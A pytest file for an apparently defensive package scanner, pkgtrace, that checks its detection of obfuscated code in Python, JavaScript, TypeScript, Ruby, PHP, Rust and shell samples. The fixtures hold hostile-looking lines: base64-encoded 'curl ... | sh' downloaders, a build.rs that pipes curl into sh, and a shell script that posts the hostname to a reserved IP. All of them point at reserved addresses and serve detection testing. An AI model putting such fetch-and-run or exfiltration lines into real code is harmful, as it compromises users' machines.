"""Signals against hand-checked expectations, one obfuscated sample per language, and the two
OSSF faults pkgtrace fixes (IPs that are version numbers, entropy that grows with length).

Every value below was worked out by hand from the sample: the base64 blobs were decoded, the
char-code runs spelled out, the escape sequences counted. All addresses are reserved ones
(TEST-NET ranges, .example), so the samples point at nobody.
"""

from __future__ import annotations

import random
import string

import pytest

from pkgtrace.static.parsing import detect_language, parse_raw, parser_for
from pkgtrace.static.signals import (entropy, entropy_ratio, file_signals, find_base64, find_hex,
                                     find_ips, find_urls, suspicious_rule)


def _signals(path: str, src: bytes):
    lang = detect_language(path, src[:256])
    pr = parser_for(lang).parse(src)
    assert not pr.syntax_errors, path
    return file_signals(pr, src)


def _items(fs, *kinds):
    return [(s.kind, s.line, s.value) for s in fs.items if not kinds or s.kind in kinds]


# -- Python: base64 exec, chr()-joined strings, \x-escaped import ------------------------------

PY = b'''import base64, os
_x = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy9zIHwgc2giKQ=="
exec(base64.b64decode(_x))
host = ''.join([chr(104), chr(116), chr(116), chr(112), chr(58), chr(47), chr(47)])
k = "\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x73\\x6f\\x63\\x6b\\x65\\x74"
key = "deadbeefcafebabe0123"
requires = "requests>=2.28.1.0"
__version__ = "1.2.3.4"
'''
PY_B64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy9zIHwgc2giKQ=="


def test_python_base64_exec_and_chr_join():
    fs = _signals("pkg/setup.py", PY)
    assert fs.base64_strings == [PY_B64]
    assert _items(fs, "decoded_base64", "url", "ip") == [
        ("decoded_base64", 2, 'import os; os.system("curl http://198.51.100.7/s | sh")'),
        ("url", 2, "http://198.51.100.7/s"),
        ("ip", 2, "198.51.100.7"),
    ]
    # Found inside the decoded payload: reported with their route, kept out of OSSF's lists,
    # which describe the literals as written.
    assert all(s.extra == {"via": "base64"} for s in fs.items if s.kind in ("url", "ip"))
    assert fs.urls == [] and fs.ip_addresses == []
    assert _items(fs, "char_codes") == [("char_codes", 4, "http://")]
    # 13 \xNN escapes (52 chars) and two quotes against 13 plain characters with nothing in
    # common: with OSSF's costs (substitution 2 = delete + insert) the distance is both lengths.
    assert fs.escaped_strings == [{"value": "import socket", "levenshtein_dist": 54 + 13,
                                   "raw": '"' + "".join(f"\\x{ord(c):02x}" for c in "import socket")
                                          + '"'}]
    assert fs.hex_strings == ["deadbeefcafebabe0123"]
    assert fs.suspicious_identifiers == [{"name": "k", "rule": "single"}]
    # "requests>=2.28.1.0" and "1.2.3.4" are versions, not hosts
    assert not [s for s in fs.items if s.kind == "ip" and "via" not in s.extra]


# -- JavaScript: the obfuscator.io shape ------------------------------------------------------

JS = b"""var _0x4e2a = ['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73', 'aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF5bG9hZA=='];
function _0x1b3c(_0x2d4f, _0x5a6b) { return _0x4e2a[_0x2d4f - 0x0]; }
const u = String.fromCharCode(104, 116, 116, 112, 58, 47, 47, 49, 57, 50);
require(_0x1b3c(0))['exec']('curl http://203.0.113.8:8080/x');
var a1234 = "node v1.2.3.4";
"""


def test_javascript_hex_mangled():
    fs = _signals("package/index.js", JS)
    assert fs.suspicious_identifiers == [
        {"name": "_0x4e2a", "rule": "hex"}, {"name": "_0x1b3c", "rule": "hex"},
        {"name": "_0x2d4f", "rule": "hex"}, {"name": "_0x5a6b", "rule": "hex"},
        {"name": "u", "rule": "single"}, {"name": "a1234", "rule": "numeric"}]
    assert fs.escaped_strings == [{"value": "child_process", "levenshtein_dist": 65,
                                   "raw": "'" + "".join(f"\\x{ord(c):02x}" for c in "child_process")
                                          + "'"}]
    assert fs.base64_strings == ["aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF5bG9hZA=="]
    assert ("decoded_base64", 1, "https://evil.example/payload") in _items(fs)
    assert ("url", 1, "https://evil.example/payload") in _items(fs)
    assert _items(fs, "char_codes") == [("char_codes", 3, "http://192")]
    assert fs.urls == ["http://203.0.113.8:8080/x"] and fs.ip_addresses == ["203.0.113.8"]


# -- TypeScript -------------------------------------------------------------------------------

TS = b"""const _0xab12: string[] = ["ZXZhbChhdG9iKCJjM1JoWjJVeSIpKQ==", "\\u0068\\u0074\\u0074\\u0070\\u003a\\u002f\\u002f"];
function _0xcd34(_0xef56: number): string { return _0xab12[_0xef56]; }
export const endpoint: string = "wss://c2.example:8443/socket";
"""


def test_typescript():
    fs = _signals("src/x.ts", TS)
    assert [s["name"] for s in fs.suspicious_identifiers] == ["_0xab12", "_0xcd34", "_0xef56"]
    assert fs.base64_strings == ["ZXZhbChhdG9iKCJjM1JoWjJVeSIpKQ=="]
    assert ("decoded_base64", 1, 'eval(atob("c3RhZ2Uy"))') in _items(fs)
    assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == [("http://", 51)]
    assert fs.urls == ["wss://c2.example:8443/socket"]


# -- Ruby: Base64.decode64, Array#pack of char codes, \x escapes ------------------------------

RB = b"""require 'base64'
payload = Base64.decode64("Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4zMy9pIHwgYmFzaA==")
url = [104, 116, 116, 112, 58, 47, 47, 101, 118].pack('c*')
system("\\x77\\x67\\x65\\x74\\x20\\x2d\\x71\\x4f\\x2d\\x20\\x68\\x74\\x74\\x70")
VERSION = "3.1.0.2"
"""


def test_ruby():
    fs = _signals("ext/x/extconf.rb", RB)
    assert _items(fs, "base64", "decoded_base64", "url", "ip") == [
        ("base64", 2, "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4zMy9pIHwgYmFzaA=="),
        ("decoded_base64", 2, "curl -s http://198.51.100.33/i | bash"),
        ("url", 2, "http://198.51.100.33/i"),
        ("ip", 2, "198.51.100.33"),
    ]
    assert _items(fs, "char_codes") == [("char_codes", 3, "http://ev")]
    assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == \
        [("wget -qO- http", 72)]
    assert fs.ip_addresses == []  # "3.1.0.2" is a version


# -- PHP: eval(base64_decode()), chr().chr() concatenation, octal escapes, IPv6 ---------------

PHP = b"""<?php
$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);
eval(base64_decode('c3lzdGVtKCJjdXJsIGh0dHA6Ly8yMDMuMC4xMTMuOS94IHwgc2giKTs='));
$u = "\\150\\164\\164\\160\\72\\57\\57\\145\\166\\151\\154\\56\\145\\170\\141\\155\\160\\154\\145";
$ip6 = "2001:db8::dead:beef";
$ns = "Foo::Bar::baz";
"""


def test_php():
    fs = _signals("src/Plugin.php", PHP)
    assert _items(fs, "char_codes") == [("char_codes", 2, "system")]
    assert ("decoded_base64", 3, 'system("curl http://203.0.113.9/x | sh");') in _items(fs)
    assert ("ip", 3, "203.0.113.9") in _items(fs)
    assert fs.escaped_strings[0]["value"] == "http://evil.example"
    assert fs.escaped_strings[0]["levenshtein_dist"] == 93
    assert fs.urls == ["http://evil.example"]
    # OSSF's IPv6 pattern also matches the "::" of "Foo::Bar::baz"; a real address stays
    assert fs.ip_addresses == ["2001:db8::dead:beef"]
    assert [s["name"] for s in fs.suspicious_identifiers] == ["f", "u"]


# -- Rust: build.rs dialling out --------------------------------------------------------------

RS = b"""use std::process::Command;
fn main() {
    let target = "198.51.100.44:4444";
    let key = "4f3c2a1b9e8d7c6b5a49";
    let url = format!("http://{}/stage2", target);
    Command::new("sh").arg("-c").arg(format!("curl {} | sh", url)).status().unwrap();
    println!("cargo:rustc-env=V=1.2.3.4");
}
"""


def test_rust():
    fs = _signals("build.rs", RS)
    assert fs.ip_addresses == ["198.51.100.44"]  # not "1.2.3.4" after V=
    assert fs.hex_strings == ["4f3c2a1b9e8d7c6b5a49"]
    assert fs.urls == []  # "http://{}/stage2" names no host
    assert fs.suspicious_identifiers == []


# -- shell: curl | sh, base64 -d | sh, ANSI-C escapes -----------------------------------------

SH = b"""#!/bin/sh
H=$(hostname)
curl -s -X POST -d "h=$H" http://192.0.2.77/collect
echo "ZXhwb3J0IFBBVEg9L3RtcC8uY2FjaGU6JFBBVEg=" | base64 -d | sh
wget -q $'\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x65\\x76\\x69\\x6c\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f\\x73'
"""


def test_shell():
    fs = _signals("install", SH)  # no extension: the shebang says shell
    assert fs.urls == ["http://192.0.2.77/collect", "http://evil.example/s"]
    assert fs.ip_addresses == ["192.0.2.77"]
    assert ("decoded_base64", 4, "export PATH=/tmp/.cache:$PATH") in _items(fs)
    assert [(e["value"], e["levenshtein_dist"]) for e in fs.escaped_strings] == \
        [("http://evil.example/s", 102)]
    assert fs.suspicious_identifiers == [{"name": "H", "rule": "single"}]


def test_unparsed_text_still_gets_signals():
    """A file no grammar covers (or too big to parse) is scanned as raw text."""
    data = b'{"cb": "https://203.0.113.50/hook", "k": "\\x65\\x76\\x61\\x6c\\x28\\x78\\x29\\x3b"}\n'
    fs = file_signals(parse_raw(data), data, data.decode())
    assert fs.urls == ["https://203.0.113.50/hook"] and fs.ip_addresses == ["203.0.113.50"]
    assert fs.escaped_strings[0]["value"] == "eval(x);"


# -- the detectors, against OSSF's rules and its faults ----------------------------------------

@pytest.mark.parametrize("text,ips", [
    ("connect to 203.0.113.5 now", ["203.0.113.5"]),
    ("8.8.8.8", ["8.8.8.8"]),                       # repeated octets: a resolver, kept
    ("version 1.2.3.4", []), ("v1.2.3.4", []), ("requests>=2.28.1.0", []),
    ("pkg==10.0.1.2", []), ("1.2.3.4", []),         # one-digit quads are versions
    ("1.2.3.4.5", []), ("999.1.1.1", []), ("a.b.c.d", []),
    ("std::fmt::Display", []), ("::", []), ("fe80::1", ["fe80::1"]),
    ("[2001:db8::1]:443", ["2001:db8::1"]),
])
def test_ip_addresses_are_not_version_numbers(text, ips):
    assert find_ips(text) == ips


def is_high_entropy(s: str) -> bool:
    """Whether the scanner reports S, written as a string literal, as a high-entropy string."""
    fs = _signals("k.py", f"k = {s!r}\n".encode())
    return any(i.kind == "high_entropy_string" for i in fs.items)


def test_entropy_does_not_grow_with_length():
    # OSSF sums -p log p over every occurrence: "ab" repeated scores more the longer it gets.
    assert entropy("ab") == pytest.approx(1.0) == pytest.approx(entropy("ab" * 500))
    rnd = random.Random(7)
    alphabet = string.ascii_letters + string.digits + "+/"

    def mean_ratio(n: int) -> float:
        return sum(entropy_ratio("".join(rnd.choice(alphabet) for _ in range(n)))
                   for _ in range(100)) / 100
    # Random base64 scores about 1 at every length, though its raw entropy climbs from ~4.6
    # bits at 32 characters to ~6 at 4000.
    for n in (32, 40, 100, 4000):
        assert mean_ratio(n) == pytest.approx(1.0, abs=0.02), n
    key = "".join(rnd.choice(alphabet) for _ in range(48))
    assert is_high_entropy(key) and is_high_entropy(key * 1 + "".join(
        rnd.choice(alphabet) for _ in range(3000)))
    prose = "the quick brown fox jumps over the lazy dog"
    assert not is_high_entropy(prose) and not is_high_entropy(prose * 20)
    assert not is_high_entropy("cargo:rustc-env=V=1.2.3.4")  # short: distinct by chance


def test_base64_hex_url_and_identifier_rules():
    assert find_base64("aGVsbG8gd29ybGQgaGVsbG8=") == ["aGVsbG8gd29ybGQgaGVsbG8="]
    assert find_base64("abcdefabcdefabcdef") == []          # hex letters only
    assert find_base64("alllowercaselettersonly") == []     # needs both cases
    assert find_base64("aGVsbG8gd29ybGQgaGVsbG8==x") == []  # padded length not a multiple of 4
    assert find_hex("id 0123456789abcdef end") == ["0123456789abcdef"] and find_hex("cafe") == []
    assert find_urls("see https://docs.example.org/a?b=1, then") == ["https://docs.example.org/a?b=1"]
    assert find_urls("http://{}/x and http://not_a_host/") == []
    assert [suspicious_rule(n) for n in ("_0x1f2e", "a123", "x", "_", "ok", "ab12")] == \
        ["hex", "numeric", "single", "single", None, None]


def test_short_ipv4_literals_are_scanned():
    # "8.8.4.4" is seven characters: a length gate of eight never looked at it.
    src = b'const dns = "8.8.4.4";\nconst c2 = "1.1.1.1";\nconst v = "1.2.3";\n'
    fs = _signals("pkg/index.js", src)
    assert fs.ip_addresses == ["8.8.4.4", "1.1.1.1"]


def test_url_keeps_the_brackets_it_opened():
    assert find_urls("http://en.example.org/wiki/Foo_(bar)") == ["http://en.example.org/wiki/Foo_(bar)"]
    # The sentence's own bracket is not part of the URL (an unbalanced one is stripped) ...
    assert find_urls("(see http://evil.example/x)") == ["http://evil.example/x"]
    assert find_urls("[http://evil.example/a_(b)].") == ["http://evil.example/a_(b)"]
    # ... and a URL cannot hide behind brackets: the host is still checked
    assert find_urls("http://(evil).example/") == []
